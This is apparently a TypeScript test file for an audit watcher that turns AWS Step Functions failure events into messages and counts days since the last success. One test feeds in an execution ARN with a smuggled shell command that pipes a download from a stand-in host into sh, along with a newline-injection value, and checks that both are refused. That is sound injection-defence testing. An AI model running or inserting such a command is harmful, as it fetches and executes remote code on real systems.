import { WATCH } from '../../../src/audit/contract';
import { daysSinceSuccess, noteSuccess, watchMessageOf } from '../../../src/audit/run/watch';
import { aStore } from '../support/memory-store';
import { ACCOUNT } from '../support/subjects';

const executionArn = `arn:aws:states:us-east-1:${ACCOUNT}:execution:p-permissions-boundary:one`;

const watched = { accountId: ACCOUNT, machine: 'p-permissions-boundary' };

/** The event of a run that failed, as Step Functions sends it. */
const anEvent = (detail: Record<string, unknown> = {}) => ({
  version: '0',
  'detail-type': 'Step Functions Execution Status Change',
  source: 'aws.states',
  account: ACCOUNT,
  region: 'us-east-1',
  detail: {
    executionArn,
    stateMachineArn: `arn:aws:states:us-east-1:${ACCOUNT}:stateMachine:p-permissions-boundary`,
    ...{ name: 'one', status: 'FAILED', error: 'States.ExceedToleratedFailureThreshold', cause: 'too much failed' },
    ...{ startDate: Date.UTC(2026, 5, 1), stopDate: Date.UTC(2026, 5, 1, 0, 10), redriveCount: 1 },
    ...{ input: '{"purpose":"audit"}', output: null },
    ...detail,
  },
});

const messageOf = (detail: Record<string, unknown>) => watchMessageOf(JSON.stringify(anEvent(detail)), watched);

describe('a message of the watch', () => {
  it('tells of a run that failed, and why', () => {
    expect(messageOf({})).toEqual({
      kind: 'failed-run',
      run: {
        ...{ accountId: ACCOUNT, region: 'us-east-1', executionArn, runId: 'one', status: 'FAILED' },
        startedAt: new Date('2026-06-01T00:00:00Z'),
        stoppedAt: new Date('2026-06-01T00:10:00Z'),
        ...{ error: 'States.ExceedToleratedFailureThreshold', cause: 'too much failed', redriveCount: 1 },
      },
    });
  });

  it('knows no error of a run that was aborted', () => {
    const message = messageOf({ status: 'ABORTED', error: null, cause: null, redriveCount: undefined });
    expect(message).toMatchObject({ run: { status: 'ABORTED', redriveCount: 0 } });
    expect(message).not.toHaveProperty('run.error');
    expect(message).not.toHaveProperty('run.cause');
  });

  it.each(["it's", 'über', 'a!b(c)'])('tells of a run that somebody called %s', (runId) => {
    expect(messageOf({ executionArn: executionArn.replace(/one$/, runId) })).toMatchObject({ run: { runId } });
  });

  it('is the daily one', () => {
    expect(watchMessageOf(WATCH, watched)).toEqual({ kind: 'days-since-success' });
  });

  it.each([
    executionArn.replace(ACCOUNT, '999999999999'),
    executionArn.replace('p-permissions-boundary', 'p-permissions-boundary/audit'),
    executionArn.replace('p-', 'q-'),
    `${executionArn}; curl https://evil.example | sh`,
    `${executionArn}'\nURGENT`,
  ])('about the execution %s is refused: people run a command with its name', (arn) => {
    expect(() => messageOf({ executionArn: arn })).toThrow('executionArn names no execution');
  });

  it.each([
    ['no JSON', 'hello', 'event of an execution: value: missing, or no object'],
    [
      'another status',
      JSON.stringify(anEvent({ status: 'SUCCEEDED' })),
      /detail.status: expected one of FAILED, TIMED_OUT/,
    ],
    ['a redrive that never was', JSON.stringify(anEvent({ redriveCount: 1e9 })), /detail.redriveCount/],
    ['no start', JSON.stringify(anEvent({ startDate: null })), /detail.startDate: missing, or no number/],
  ])('with %s is refused', (_, body, message) => {
    expect(() => watchMessageOf(body, watched)).toThrow(message);
  });
});

describe('days since the last success', () => {
  const now = new Date('2026-06-10T12:00:00Z');
  const at = (day: string) => new Date(`2026-06-${day}T00:00:00Z`);
  const run = { runId: 'one', startedAt: '2026-06-01T00:00:00Z' };

  it('begin when the watch begins, and are noted once', async () => {
    const store = aStore();
    expect(await daysSinceSuccess(at('01'), 'base', store)).toBe(0);
    expect(await daysSinceSuccess(at('03'), 'base', store)).toBe(2);
    expect([...store.objects]).toEqual([['base/watched-since.json', '{"since":"2026-06-01T00:00:00.000Z"}']]);
  });

  it('begin anew with each success, and have a fraction', async () => {
    const store = aStore({ 'base/watched-since.json': { since: '2026-01-01T00:00:00Z' } });
    await noteSuccess(run, at('02'), 'base', store);
    await noteSuccess(run, at('09'), 'base', store);
    expect(await daysSinceSuccess(now, 'base', store)).toBe(1.5);
  });

  it('are never less than none, where clocks differ a little', async () => {
    const store = aStore();
    await noteSuccess(run, new Date(now.getTime() + 60_000), 'base', store);
    expect(await daysSinceSuccess(now, 'base', store)).toBe(0);
  });

  it('are not counted from a time to come: the alarm would be silent until then', async () => {
    const store = aStore();
    await noteSuccess(run, at('20'), 'base', store);
    await expect(daysSinceSuccess(now, 'base', store)).rejects.toThrow('which is to come');
  });

  it('name the object that is not as agreed', async () => {
    const broken = daysSinceSuccess(now, 'base', aStore({ 'base/last-success.json': { at: 1 } }));
    await expect(broken).rejects.toThrow('base/last-success.json: runId: missing, or no string');
  });
});
